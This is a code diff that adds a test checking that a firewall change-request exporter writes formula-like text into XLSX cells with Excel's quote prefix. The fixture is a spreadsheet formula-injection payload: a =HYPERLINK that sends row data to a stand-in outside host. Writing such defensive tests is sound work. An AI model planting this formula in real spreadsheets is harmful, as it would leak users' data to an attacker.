@@ -108,3 +108,31 @@ def test_text_that_looks_like_cell_markup_is_written_as_text(tmp_path: Path) -> 
     formulas = [c.coordinate for page in book for line in page.iter_rows() for c in line
                 if c.data_type == "f"]  # fmt: skip
     assert formulas == []
+
+
+def test_text_a_spreadsheet_would_read_as_a_formula_carries_the_quote_prefix(
+    tmp_path: Path,
+) -> None:
+    # the cell held the text "=HYPERLINK(...)" without Excel's own "'" marker (quotePrefix):
+    # shown as text, but a firewall engineer who edited the cell (F2, Enter) turned it into a
+    # live formula; the CSV gets a leading "'" for the same reason (OWASP, ASVS 1.2.10)
+    formula = '=HYPERLINK("http://203.0.113.9/collect?flow="&A2&"&from="&D2,"vendor details")'
+    assert len(formula) > 60  # wider than the purpose column: it wraps
+    deployment = examples.hostile_deployment(tmp_path, purpose=formula, product="@Hostile")
+    workbook = tmp_path / "cr.xlsx"
+    code, _, err = run("matrix", str(deployment), "--format", "xlsx", "-o", str(workbook))
+    assert code == 0, err
+    book = load_workbook(workbook)
+    header = [c.value for c in book["Flows"][1]]
+    purpose = book["Flows"].cell(2, header.index("purpose") + 1)
+    assert (purpose.value, purpose.data_type, purpose.quotePrefix) == (formula, "s", True)
+    # the column's wrapping stays with the cell's own format
+    assert purpose.alignment.wrap_text
+    justification = book["Flows"].cell(2, header.index("justification") + 1)
+    assert (justification.value, justification.quotePrefix) == (formula, True)
+    flow = book["Flows"].cell(2, header.index("flow") + 1)
+    assert not flow.quotePrefix
+    (product,) = [
+        line[0] for line in book["Change request"].iter_rows() if line[0].value == "@Hostile"
+    ]
+    assert product.quotePrefix
